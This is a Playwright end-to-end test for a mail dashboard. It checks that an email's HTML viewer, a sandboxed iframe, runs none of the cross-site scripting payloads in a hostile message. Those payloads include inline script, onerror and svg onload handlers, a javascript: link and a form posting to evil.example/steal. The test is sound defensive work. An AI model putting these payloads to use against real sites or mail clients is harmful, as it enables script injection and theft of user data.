import { readFileSync } from 'node:fs';
import nodemailer from 'nodemailer';
import type { Browser } from 'playwright-core';
import { checkPage, launchBrowser, newDashboardContext, receivedOnce, sessionOf, signUpInBrowser } from './support/browser';
import { apiAsPage, startDashboardStack, type DashboardStack } from './support/stack';

jest.setTimeout(60_000);

// Every way an email might try to run script in the viewer: an inline script, an event
// handler, a javascript: link, a form, and script that reaches for the dashboard's window.
const HOSTILE_HTML = `<html><head><script>window.__pwned = 'script'; try { parent.__pwned = 'parent'; top.document.title = 'pwned'; } catch (e) {} alert('script')</script></head>
<body><p id="styled" style="color: rgb(200, 0, 0)">Styled paragraph</p>
<img src="x" onerror="window.__pwned = 'onerror'; alert('onerror')" alt="broken">
<a id="js-link" href="javascript:window.__pwned='link';alert('link')">Click me</a>
<svg onload="alert('svg')"></svg>
<form action="https://evil.example/steal"><button id="submit">Submit</button></form>
</body></html>`;

describe('the dashboard: received emails', () => {
  let stack: DashboardStack;
  let browser: Browser;
  beforeAll(async () => {
    [stack, browser] = await Promise.all([startDashboardStack('dash_received'), launchBrowser()]);
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await stack?.close();
  });

  test('when a received email carries script, event handlers and a javascript: link, then viewing it runs none of them', async () => {
    const { context, page, pageErrors } = await newDashboardContext(browser);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await signUpInBrowser(page, stack.url);
    const owner = await apiAsPage(stack, await sessionOf(page));

    await page.getByRole('navigation', { name: 'Dashboard' }).getByRole('link', { name: 'Received' }).click();
    await page.getByRole('heading', { name: 'No mail received yet' }).waitFor();
    expect(await checkPage(page, 'received-empty')).toEqual([]);

    const route = await owner.post('/routes', { match: '*@in.dashboard.test', name: 'Support' });
    expect(route.status).toBe(201);
    const transport = nodemailer.createTransport({ host: '127.0.0.1', port: stack.mxPort, secure: false, ignoreTLS: true });
    await transport.sendMail({
      from: 'Mallory <mallory@attacker.example>',
      to: 'help@in.dashboard.test',
      subject: 'Totally harmless',
      html: HOSTILE_HTML,
      text: 'Totally harmless',
      attachments: [{ filename: 'notes.txt', content: 'attached words', contentType: 'text/plain' }],
    });
    const received = await receivedOnce(owner);

    await page.reload();
    await page.getByRole('table', { name: 'Received emails' }).getByRole('link', { name: 'Totally harmless' }).waitFor();
    await page.getByLabel('Route').selectOption(route.body.id);
    await page.waitForURL(new RegExp(`routeId=${route.body.id}$`));
    expect(await checkPage(page, 'received')).toEqual([]);
    await page.getByRole('link', { name: 'Totally harmless' }).click();
    await page.getByRole('heading', { level: 1, name: 'Totally harmless' }).waitFor();
    await page.getByRole('region', { name: 'Authentication verdicts' }).waitFor();

    const frameElement = page.locator('iframe[title^="Content of"]');
    await expect(frameElement.getAttribute('sandbox')).resolves.toBe('');
    const frame = page.frameLocator('iframe[title^="Content of"]');
    await frame.getByText('Styled paragraph').waitFor();
    // The message's own inline style applies (the frame is styled as sent), yet nothing runs.
    await expect(frame.locator('#styled').evaluate((el) => (el.ownerDocument.defaultView as any).getComputedStyle(el).color)).resolves.toBe('rgb(200, 0, 0)');
    await frame.locator('#js-link').click();
    await frame.locator('#submit').click();
    await page.waitForTimeout(500);
    const frameHandle = await frameElement.elementHandle();
    const content = await frameHandle?.contentFrame();
    expect(await content?.evaluate('window.__pwned')).toBeUndefined();
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(await page.title()).toBe('Totally harmless · Mailroom');
    expect(dialogs).toEqual([]);
    expect(page.url()).toBe(`${stack.url}/dashboard/received/${received.id}`);

    // The attachment and the raw message download through the client (with the session's headers).
    const [attachment] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download notes.txt' }).click()]);
    expect(attachment.suggestedFilename()).toBe('notes.txt');
    const attachmentPath = await attachment.path();
    expect(readFileSync(attachmentPath, 'utf8')).toBe('attached words');
    const [raw] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download raw message' }).click()]);
    expect(raw.suggestedFilename()).toBe(`${received.id}.eml`);
    expect(readFileSync(await raw.path(), 'utf8')).toContain('Subject: Totally harmless');

    expect(await checkPage(page, 'received-detail')).toEqual([]);
    expect(pageErrors).toEqual([]);
    await context.close();
  });
});
